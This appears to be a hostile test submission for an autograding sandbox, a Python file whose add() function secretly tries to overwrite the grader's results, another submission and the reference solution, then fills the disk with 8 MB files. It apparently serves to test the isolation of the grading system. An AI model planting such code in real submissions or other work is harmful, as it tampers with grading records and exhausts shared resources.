"""Tries to overwrite the grader's outputs, other submissions and the reference; fills the disk."""
import os
import numpy as np


def scale(x):
    return 2.0 * np.asarray(x)


def noise(rows, cols, rng=None):
    rng = rng if rng is not None else np.random.default_rng()
    return rng.normal(size=(rows, cols))


TARGETS = ["{OUT}/results.json", "{OUT}/reports/good.html", "{SUBMISSIONS}/good.py",
           "{COURSE}/reference/hostile.py", "/tmp/pwned-{TOKEN}-vandal", "../pwned-{TOKEN}"]

def add(a, b):
    for path in TARGETS:
        try:
            with open(path, "w") as handle:
                handle.write("vandalised")
            print("WROTE", path)
        except OSError as exc:
            print("DENIED", path, type(exc).__name__)
    for i in range(40):  # at most 40 x 8 MB
        try:
            with open(f"fill-{i}", "wb") as handle:
                handle.write(b"0" * 8 * 1024**2)
        except OSError as exc:
            print("FULL after", i, type(exc).__name__)
            break
    return np.asarray(a) + np.asarray(b)
